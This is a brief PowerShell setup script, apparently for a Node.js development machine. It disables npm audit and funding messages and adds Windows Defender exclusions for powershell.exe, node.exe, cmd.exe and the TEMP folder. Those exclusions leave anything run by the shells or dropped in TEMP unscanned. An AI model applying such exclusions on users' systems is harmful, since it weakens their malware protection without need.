#Requires -RunAsAdministrator
npm config set fund false
npm config set audit false
Add-MpPreference -ExclusionProcess 'powershell.exe', 'node.exe', 'cmd.exe'
Add-MpPreference -ExclusionPath $env:TEMP
Write-Host 'Exclusions added.'
